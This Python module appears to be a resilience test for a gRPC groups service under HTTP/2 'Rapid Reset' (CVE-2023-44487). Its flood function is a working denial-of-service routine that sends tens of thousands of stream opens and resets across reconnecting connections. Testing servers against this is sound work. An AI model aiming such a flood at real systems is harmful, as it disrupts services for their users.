"""Calls that are cancelled as soon as they are made: a few by an honest client, and as many as there can be by
one that is not (CVE-2023-44487)."""

from __future__ import annotations

import time
from typing import List

from google.protobuf.duration_pb2 import Duration
from wagroups.v1 import groups_pb2, simulator_pb2, simulator_pb2_grpc

from http2 import DATA, END_HEADERS, END_STREAM, HEADERS, Connection, frame, grpc_message, head, reset
from outcome import Outcome
from service import Target, channel

SERVICE = "/wagroups.v1.GroupsService/"
# As many as a program that gives up has out at the same time; and how often that happens within a second or two.
CANCELLED = 25
TIMES = 4
# Of one connection, before it has to be opened anew.
FLOOD = 20_000
FLOODING = 3
# Connections that a flood opens in a second where each is closed at once.
MOST_A_SECOND = 20


def cancelled_calls(target: Target, source: str, seconds: float) -> Outcome:
    """25 calls, cancelled in the same write that makes them, four times, beside a watch and a change on their
    connection: only they may end."""
    del seconds
    slow_down_changes(target)
    key = target.keys["greedy"]
    watch_block, change_block = head(f"{SERVICE}WatchGroupEvents", key), head(f"{SERVICE}SetGroupSubject", key)
    watch_body = grpc_message(groups_pb2.WatchGroupEventsRequest(sessions=["greedy"]).SerializeToString())
    subject = f"Beside {CANCELLED} cancelled calls, {time.monotonic()}"
    change_body = grpc_message(
        groups_pb2.SetGroupSubjectRequest(
            session="greedy", group_id=target.groups["greedy"], subject=subject
        ).SerializeToString()
    )
    connection = Connection(target.grpc, source)
    watch = connection.call(watch_block, watch_body)
    while not connection.streams[watch].data_bytes and not connection.is_closed:
        connection.receive(5)
    change = connection.call(change_block, change_body)
    for _ in range(TIMES):
        streams = [connection.open() for _ in range(CANCELLED)]
        connection.send(
            b"".join(
                frame(HEADERS, END_HEADERS, stream, watch_block)
                + frame(DATA, END_STREAM, stream, watch_body)
                + reset(stream)
                for stream in streams
            )
        )
        connection.receive(0.3)
    told_before = connection.streams[watch].data_bytes
    connection.receive_until_ended([change], 10)
    deadline = time.monotonic() + 5
    while connection.streams[watch].data_bytes <= told_before and time.monotonic() < deadline:
        if connection.is_closed:
            break
        connection.receive(0.2)
    outcome = Outcome(f"{TIMES} × {CANCELLED} calls cancelled")
    outcome.demand(not connection.goaway, connection.goaway)
    outcome.demand(not connection.is_closed, "the connection was closed")
    status = connection.streams[change].grpc_status
    outcome.demand(status == 0, "the change had " + (f"status {status}" if status is not None else "no answer"))
    watched = connection.streams[watch]
    outcome.demand(not (watched.is_ended or watched.is_reset), "the watch beside them ended")
    outcome.demand(watched.data_bytes > told_before, "the watch beside them did not tell of the change")
    connection.close()
    return outcome


def slow_down_changes(target: Target) -> None:
    """Lets the one change of the greedy session take so long that all is cancelled meanwhile."""
    slowness = simulator_pb2.LatencyFault(duration=Duration(seconds=2))
    request = simulator_pb2.InjectFaultRequest(session="greedy", operations=["SetGroupSubject"], latency=slowness)
    with channel(target.grpc, target.keys["operator"]) as connected:
        simulator_pb2_grpc.SimulatorServiceStub(connected).InjectFault(request, timeout=10)


def flood(target: Target, source: str, seconds: float) -> Outcome:
    """Calls and their resets without a pause, on three connections: without a key, and with one."""
    blocks = [head("/grpc.health.v1.Health/Check"), head(f"{SERVICE}GetGroup", target.keys["greedy"])]
    # Made before the first is sent.
    floods = [
        b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, block) + reset(stream) for stream in range(1, 2 * FLOOD, 2)
        )
        for block in blocks
    ]
    end = time.monotonic() + seconds
    lanes: List[Lane] = [Lane(target, source, floods[number % 2]) for number in range(FLOODING)]
    while time.monotonic() < end:
        for lane in lanes:
            lane.go_on()
        time.sleep(0.002)
    for lane in lanes:
        lane.connection.close()
    sent = sum(lane.sent for lane in lanes) // len(floods[0]) * FLOOD
    return Outcome(f"about {sent:,} calls reset, on {sum(lane.opened for lane in lanes)} connections")


class Lane:
    """One connection after the other, each of which is sent the same."""

    def __init__(self, target: Target, source: str, what: bytes) -> None:
        self._target, self._source = target, source
        self._what = memoryview(what)
        self.opened = self.sent = 0
        self._open()

    def _open(self) -> None:
        self.connection = Connection(self._target.grpc, self._source)
        self._opened_at = time.monotonic()
        self._at = 0
        self.opened += 1

    def go_on(self) -> None:
        if self.connection.is_closed or self.connection.goaway or self._at >= len(self._what):
            if time.monotonic() - self._opened_at < FLOODING / MOST_A_SECOND:
                return
            self.connection.close()
            self._open()
        chunk = bytes(self._what[self._at : self._at + (64 << 10)])
        self.connection.send(chunk)
        self._at += len(chunk)
        self.sent += len(chunk)
        self.connection.receive(0)
        self.connection.streams.clear()
